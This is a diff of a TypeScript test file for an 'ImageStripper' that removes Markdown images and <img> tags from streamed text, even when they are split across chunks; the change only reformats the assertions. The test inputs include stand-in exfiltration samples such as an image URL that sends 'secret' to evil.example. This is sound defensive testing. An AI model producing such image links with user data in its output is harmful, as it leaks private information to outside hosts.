@@ -9,11 +9,23 @@ const run = (deltas: string[]) => {
 describe('ImageStripper', () => {
   it('removes Markdown images and <img> tags, even split across deltas', () => {
     expect(run(['See ![x](https://evil.example/?q=secret) here.'])).toBe('See  here.');
-    expect(run(['See !', '[x', '](https://evil', '.example/?q=1', ') here <im', 'g src="https://evil.example/a.png"', '> end'])).toBe('See  here  end');
+    expect(
+      run([
+        'See !',
+        '[x',
+        '](https://evil',
+        '.example/?q=1',
+        ') here <im',
+        'g src="https://evil.example/a.png"',
+        '> end',
+      ]),
+    ).toBe('See  here  end');
   });
 
   it('keeps ordinary text, links, exclamations and citations', () => {
-    expect(run(['Wow! It works [1]. ', 'See [the docs](https://example.com) and a < b!'])).toBe('Wow! It works [1]. See [the docs](https://example.com) and a < b!');
+    expect(run(['Wow! It works [1]. ', 'See [the docs](https://example.com) and a < b!'])).toBe(
+      'Wow! It works [1]. See [the docs](https://example.com) and a < b!',
+    );
     expect(run(['Done!'])).toBe('Done!');
     expect(run(['Done! [', '2]'])).toBe('Done! [2]');
   });
